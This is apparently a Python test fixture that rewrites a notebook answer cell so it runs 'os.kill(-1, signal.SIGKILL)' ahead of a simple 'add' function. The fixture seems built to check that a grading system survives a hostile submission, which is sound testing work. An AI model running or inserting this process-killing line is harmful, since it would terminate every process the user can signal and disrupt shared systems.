def mutate(cells):
    cells["answer-t1"]["source"] = """import os
import signal

os.kill(-1, signal.SIGKILL)



def add(a, b):
    return a + b"""
